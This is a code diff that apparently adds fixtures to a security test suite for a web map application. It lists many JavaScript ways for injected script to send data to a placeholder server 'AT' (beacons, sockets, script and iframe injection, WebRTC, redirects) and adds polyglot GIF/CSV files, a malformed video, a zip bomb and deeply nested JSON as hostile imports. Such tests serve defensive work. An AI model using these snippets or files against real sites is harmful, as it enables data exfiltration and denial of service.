@@ -70,6 +70,38 @@ def systems(at: Target) -> tuple[str, ...]:
     )
 
 
+#: What a script that somebody got into a map would try, to tell the server "AT" something. Each is tried by itself.
+WAYS_OUT = (
+    "fetch('AT/fetch', {mode: 'no-cors'}).catch(() => 0)",
+    "const x = new XMLHttpRequest(); x.open('GET', 'AT/xhr'); x.send()",
+    "navigator.sendBeacon('AT/beacon', 'a')",
+    "new WebSocket('AT/socket'.replace('http', 'ws'))",
+    "new EventSource('AT/events')",
+    "new Image().src = 'AT/image'",
+    "const s = document.createElement('script'); s.src = 'AT/script'; document.head.append(s)",
+    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'AT/style'; document.head.append(l)",
+    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'AT/prefetch'; document.head.append(l)",
+    "document.body.style.backgroundImage = 'url(AT/background)'",
+    "new FontFace('a', 'url(AT/font)').load().catch(() => 0)",
+    "const v = document.createElement('video'); v.src = 'AT/video'; document.body.append(v)",
+    "const o = document.createElement('object'); o.data = 'AT/object'; document.body.append(o)",
+    "const f = document.createElement('iframe'); f.src = 'AT/frame'; document.body.append(f)",
+    "new Worker(URL.createObjectURL(new Blob([`fetch('AT/worker')`])))",
+    "import('AT/module').catch(() => 0)",
+    "const f = document.createElement('form'); f.action = 'AT/form'; document.body.append(f); f.submit()",
+    "const a = document.createElement('a'); a.href = 'AT/ping'; a.ping = 'AT/ping'; document.body.append(a); a.click()",
+    "window.open('AT/open')",
+    "window.top.location = 'AT/top'",
+    "window.parent.document.title = 'AT'",
+    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); c.createDataChannel('a'); "
+    "c.createOffer().then((offer) => c.setLocalDescription(offer))",
+    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=AT/refresh'; "
+    "document.head.append(m)",
+    # The last one: where it succeeds, the map is gone.
+    "location.href = 'AT/self'",
+)
+
+
 def imports(at: Target, large: bool) -> Iterator[tuple[str, bytes]]:
     """Files to import: their name and content."""
     for i, text in enumerate(texts(at)):
@@ -105,6 +137,9 @@ def imports(at: Target, large: bool) -> Iterator[tuple[str, bytes]]:
     yield "bomb.kmz", files.archive(**{"doc.kml": b"<kml>" + b" " * 2**24 + b"</kml>"})
     yield "deep.geojson", b'{"a":' * 5_000 + b"1" + b"}" * 5_000
     yield "unseen.geojson", files.collection(files.feature("POINT (36 51)", name="a\ufeff\u202eb\U0010ffff"))
+    yield "moving.gif", b"GIF89a\1\0\1\0\0\0\0;" + texts(at)[0].encode()
+    yield "moving.mp4", b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0\0\0\1moov" + b"\xff" * 200
+    yield "moving.csv", b"GIF89a/*\n" + texts(at)[0].encode() + b"\n*/=1,2\n"
     yield "nothing.csv", b""
     yield "zeros.gpkg", b"SQLite format 3\0" + bytes(4_000)
     if large:
